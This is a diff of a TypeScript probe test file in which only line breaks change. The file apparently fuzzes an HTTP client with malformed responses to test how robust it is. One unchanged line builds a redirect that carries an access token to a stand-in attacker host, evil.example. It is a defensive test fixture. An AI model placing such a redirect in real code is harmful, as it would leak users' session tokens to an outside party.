@@ -46,7 +46,8 @@ const none = (random: Random, answer: HttpAnswer): HttpAnswer => {
     () => withBody(answer, Buffer.concat([half, Buffer.from([0xff, 0xfe])])),
     () => withBody(answer, deep),
     () => withBody(answer, ''),
-    () => withBody(answer, pick(random, ['null', '[]', '{}', '1', '"x"', '<a/>', '{"records":1}', '{"records":[1,null]}'])),
+    () =>
+      withBody(answer, pick(random, ['null', '[]', '{}', '1', '"x"', '<a/>', '{"records":1}', '{"records":[1,null]}'])),
     () => ({ ...answer, headers: { ...headers, 'content-encoding': pick(random, ['gzip', 'br', 'constructor']) } }),
     () => ({ ...answer, headers: { 'content-type': 'text/html' }, body: Buffer.from('<html>Back soon</html>') }),
     () => ({ ...answer, statusCode: 302, headers: { location: `https://evil.example/?sid=${SECRETS.accessToken}` } }),
@@ -140,7 +141,8 @@ const anyBytes = ({ checkedAnswer }: Product, random: Random): readonly string[]
 export const answerProbes = async (): Promise<readonly Probe<Product>[]> => {
   const answers = await recorded(PRODUCT);
   const first = await reportOf(PRODUCT, answers);
-  if (first instanceof OrgUnavailable || first.coverage.profiles.assessed === 0) throw new Error('nothing was recorded');
+  if (first instanceof OrgUnavailable || first.coverage.profiles.assessed === 0)
+    throw new Error('nothing was recorded');
   return [
     {
       name: 'answers with something that is no business of sessions',
@@ -156,4 +158,5 @@ export const answerProbes = async (): Promise<readonly Probe<Product>[]> => {
   ];
 };
 
-const slipped = (random: Random, answer: HttpAnswer): HttpAnswer => withBody(answer, mutated(random, answer.body.toString()));
+const slipped = (random: Random, answer: HttpAnswer): HttpAnswer =>
+  withBody(answer, mutated(random, answer.body.toString()));
